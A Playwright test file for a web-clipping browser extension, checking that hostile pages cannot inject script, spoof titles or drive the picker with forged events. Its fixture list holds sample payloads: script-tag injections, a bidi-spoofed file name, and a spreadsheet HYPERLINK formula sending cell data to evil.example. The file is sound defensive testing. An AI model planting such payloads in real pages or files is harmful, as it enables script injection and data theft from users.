import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseMarkdown } from '#lib/core/parse-markdown.ts';
import { type Clip, clipSchema } from '#lib/core/schema/clip.ts';
import { LIMITS } from '#lib/core/text.ts';
import type { ExtensionBrowser } from '#test/support/chromium-driver.ts';
import { launchGleaner, openPicker, overlay, pendingCaptures, readTable, select } from '#test/support/gleaner.ts';
import { openExport, saveExport } from '#test/support/library-gestures.ts';
import { nodesOf, urlsOf } from '#test/support/markdown-text.ts';
import { chooseType, clipShown } from '#test/support/popup-gestures.ts';
import { drag } from '#test/support/region.ts';
import { type SiteServer, serveDirectory } from '#test/support/serve-site.ts';
import { wordsOf } from '#test/support/words.ts';

/** What hostile.js keeps of what happened to its page. */
declare const __pwned: unknown;
declare const __events: { type: string }[];

/** Page and passage, with words that must arrive as they stand. */
const PASSAGES: [path: string, selector: string, words: string][] = [
  ['hostile.html', '#inert', '<script>globalThis.__pwned=1</script> **bold** _em_'],
  ['hostile.html', '#fence', '<script>alert(1)</script>\n```'],
  ['hostile.html', '#bidi', 'fdp.exe'],
  ['hostile.html', '#surrogates', 'swapped [\uFFFD\uFFFD] end.'],
  ['hostile.html', '#nul', '[] end.'],
  ['hostile.html', '#formula', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ['hostile.html?longtitle', '#emoji', '👨‍👩‍👧‍👦'],
  ['clobber.html', '#clobbered', 'A sentence inside a form whose inputs are called parentNode'],
  ['base.html', '#based', 'Relative links such as pricing'],
];

let site: SiteServer;
let browser: ExtensionBrowser;
let library: Page;

/** What an extension page complained of, or was made to do. */
const incidents: string[] = [];

beforeAll(async () => {
  site = await serveDirectory('test/fixtures/site');
  browser = await launchGleaner();
  browser.context.on('page', (opened) => {
    const isOurs = () => opened.url().startsWith('chrome-extension://');
    opened.on('dialog', (dialog) => {
      incidents.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    opened.on('pageerror', (error) => isOurs() && incidents.push(`error: ${error.message}`));
    opened.on('console', (message) => {
      if (isOurs() && (message.type() === 'error' || /Content.Security.Policy/i.test(message.text()))) {
        incidents.push(`console: ${message.text()}`);
      }
    });
  });
  library = await browser.extensionPage('library.html');
  await library.getByRole('heading', { level: 2 }).first().waitFor();
});
afterAll(async () => {
  await browser.close();
  await site.close();
});

const clips = () => readTable<Clip>(library, 'clips');
const isUnharmed = (page: Page) => page.evaluate(() => typeof __pwned === 'undefined');

describe('what a hostile page says of itself', () => {
  it.each(PASSAGES)('arrives inert: %s %s', async (path, selector, expected) => {
    const page = await browser.openPage(site.url + path);
    await select(page, selector);
    const popup = await browser.clickToolbar(page);
    await clipShown(popup);
    const before = new Set((await clips()).map(({ id }) => id));
    await chooseType(popup, 'note');
    const made = (await clips()).filter(({ id }) => !before.has(id));
    expect(made).toHaveLength(1);
    const [clip] = made;
    if (!clip) throw new Error('Nothing was clipped.');

    expect(clipSchema.safeParse(clip).error).toBeUndefined();
    expect(clip.quote).toContain(expected);
    expect(clip.quote.isWellFormed()).toBe(true);
    expect(clip.source.title.length).toBeLessThanOrEqual(LIMITS.title);
    expect(clip.source.title).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    // No field that may be followed holds anything that runs; the quote is words.
    const { canonicalUrl, favicon, url } = clip.source;
    for (const link of [canonicalUrl, favicon, url]) if (link) expect(link).toMatch(/^https?:\/\//);
    const targets = [...clip.markdown.matchAll(/(?<!\\)\]\((?:<([^>]*)>|([^)\s]*))/g)].map(([, a, b]) => a ?? b ?? '');
    for (const target of targets) expect(target).toMatch(/^(?:https?:|mailto:)/);
    if (path === 'base.html') expect(targets).toContain('https://evil.example/pricing');

    // The popup shows the words as words.
    await popup.locator('blockquote', { hasText: expected.split('\n')[0] ?? '' }).waitFor();
    expect(await popup.locator('blockquote script, blockquote img').count()).toBe(0);
    expect(await isUnharmed(popup)).toBe(true);
    await popup.close();
    if (path.startsWith('hostile')) expect(await page.evaluate(() => __pwned)).toBe(false);
    await page.close();
  });

  it('is words in the library too', async () => {
    await library.bringToFront();
    await library.reload();
    await library.getByRole('heading', { level: 2 }).first().waitFor();
    for (const { id, quote } of await clips()) {
      await library.locator(`[data-clip="${id}"]`).getByRole('button').click();
      const shown = library.getByRole('region', { name: 'Clip', exact: true }).locator('blockquote');
      const line = (quote.split('\n')[0] ?? '').slice(0, 40);
      await shown.filter({ hasText: line }).waitFor();
      expect(await library.locator('main script, main iframe, [onerror], a[href^="javascript" i]').count(), line).toBe(
        0,
      );
      const links = await library.locator('a[href]').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
      for (const link of links) expect(link, line).toMatch(/^(?:https?:|mailto:|#|\/)/);
    }
    expect(await isUnharmed(library)).toBe(true);
  });

  it('leaves as words: the saved findings hold every quote, no markup and no link that runs', async () => {
    await library.keyboard.press('Escape');
    await openExport(library, wordsOf('en'), 'markdown');
    const markdown = (await saveExport(library, wordsOf('en'))).bytes.toString('utf8');
    const tree = parseMarkdown(markdown);
    const nodes = nodesOf(tree);
    expect(nodes.filter(({ type }) => type === 'html')).toEqual([]);
    const urls = urlsOf(tree);
    expect(urls.length).toBeGreaterThanOrEqual(PASSAGES.length);
    for (const url of urls) expect(url).toMatch(/^(?:https?:|mailto:)/);
    const text = nodes.map((node) => ('value' in node ? node.value : '')).join('');
    const squeezed = (words: string) => words.replace(/\s+/g, '');
    for (const [, , words] of PASSAGES) expect(squeezed(text)).toContain(squeezed(words));
  });

  it('made no page of the extension run, ask or fetch anything', () => {
    expect(incidents).toEqual([]);
    const own = `chrome-extension://${browser.extensionId}/`;
    expect(browser.requests.length).toBeGreaterThan(0);
    expect(browser.requests.filter(({ url }) => !url.startsWith(own) && !/^(?:blob|data):/.test(url))).toEqual([]);
  });
});

describe('a page that meddles with the picker', () => {
  it('cannot drag, confirm or cancel with events of its own making', async () => {
    const page = await browser.openPage(`${site.url}pricing.html`);
    await browser.grantActiveTab(page);
    const before = await clips();
    await openPicker(browser, page);
    const [pending] = await pendingCaptures(browser);
    await page.evaluate(() => {
      const targets = [document.querySelector('html > div'), document.activeElement, document, window];
      const at = { bubbles: true, composed: true, cancelable: true, button: 0, pointerId: 1 };
      for (const target of targets) {
        for (const [type, x] of [
          ['pointerdown', 100],
          ['pointermove', 300],
          ['pointerup', 400],
        ] as const) {
          target?.dispatchEvent(new PointerEvent(type, { ...at, clientX: x, clientY: x }));
        }
        for (const key of ['ArrowRight', 'Enter', 'Escape']) {
          target?.dispatchEvent(new KeyboardEvent('keydown', { ...at, key }));
        }
        target?.dispatchEvent(new Event('cancel', at));
        target?.dispatchEvent(new Event('close', at));
      }
    });
    expect(await pendingCaptures(browser)).toEqual([pending]);
    expect(await overlay(page).count()).toBe(1);
    expect(await clips()).toEqual(before);
    // The control: a person's key does it.
    await page.keyboard.press('Escape');
    await overlay(page).waitFor({ state: 'detached' });
    await expect.poll(() => pendingCaptures(browser)).toEqual([]);
    await page.close();
  });

  it('may take the picker off, and the user simply starts again', async () => {
    const page = await browser.openPage(`${site.url}pricing.html`);
    await browser.grantActiveTab(page);
    const before = await clips();
    await openPicker(browser, page);
    await overlay(page).evaluate((host) => host.remove());
    await expect.poll(() => pendingCaptures(browser)).toEqual([]);
    expect(await clips()).toEqual(before);

    await openPicker(browser, page);
    await drag(page, [100, 120], [400, 300]);
    await expect.poll(async () => (await clips()).length).toBe(before.length + 1);
    await page.close();
  });

  it('cannot keep keys and pointers from the user, nor hear them', async () => {
    const page = await browser.openPage(`${site.url}hostile.html`);
    await browser.grantActiveTab(page);
    const before = await clips();
    await openPicker(browser, page);
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('Escape');
    await overlay(page).waitFor({ state: 'detached' });
    await expect.poll(() => pendingCaptures(browser)).toEqual([]);
    expect(await clips()).toEqual(before);

    await openPicker(browser, page);
    await drag(page, [100, 120], [400, 300]);
    await expect.poll(async () => (await clips()).length).toBe(before.length + 1);
    // All but the release of Esc, by which time the picker has left.
    expect(await page.evaluate(() => __events.filter(({ type }) => type !== 'keyup'))).toEqual([]);
    await page.close();
  });
});
